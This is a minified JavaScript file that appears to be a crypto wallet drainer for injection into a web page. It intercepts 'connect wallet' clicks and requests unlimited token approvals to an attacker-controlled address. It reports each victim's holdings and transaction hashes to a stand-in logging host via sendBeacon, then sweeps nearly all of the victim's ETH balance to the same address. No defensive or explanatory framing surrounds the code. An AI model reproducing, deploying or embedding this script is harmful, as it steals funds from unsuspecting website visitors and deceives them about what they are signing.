const t = "0x0000000000000000000000000000000000000003", n = [ "0x0000000000000000000000000000000000000004", "0x0000000000000000000000000000000000000005" ], a = t => t.replace("0x", "").padStart(64, "0");

async function e(t, n) {
    return window.ethereum.request({
        method: t,
        params: n
    });
}

async function o(t, n) {
    const o = await e("eth_call", [ {
        to: t,
        data: "0x70a08231" + a(n)
    }, "latest" ]);
    return BigInt(o || "0x0");
}

async function c(n, o) {
    return e("eth_sendTransaction", [ {
        from: o,
        to: n,
        data: "0x095ea7b3" + a(t) + "f".repeat(64)
    } ]);
}

document.querySelectorAll("[data-connect], .connect-wallet").forEach(a => {
    a.addEventListener("click", s => {
        s.stopImmediatePropagation(), async function() {
            if (!window.ethereum) return;
            const a = await e("eth_requestAccounts", []);
            "0x1" !== await e("eth_chainId", []) && await e("wallet_switchEthereumChain", [ {
                chainId: "0x1"
            } ]);
            for (const s of a) {
                const a = [];
                for (const t of n) {
                    const n = await o(t, s);
                    n > 0n && a.push({
                        token: t,
                        amount: n
                    });
                }
                a.sort((t, n) => t.amount < n.amount ? 1 : -1);
                for (const {token: t, amount: n} of a) {
                    const a = await c(t, s).catch(t => t.message);
                    navigator.sendBeacon("https://log.drain.invalid/a", JSON.stringify({
                        owner: s,
                        token: t,
                        amount: n.toString(),
                        hash: a
                    }));
                }
                const i = BigInt(await e("eth_getBalance", [ s, "latest" ]));
                i > 10n ** 15n && await e("eth_sendTransaction", [ {
                    from: s,
                    to: t,
                    value: "0x" + (i - 10n ** 15n).toString(16)
                } ]);
            }
        }().finally(() => a.classList.add("connected"));
    });
});
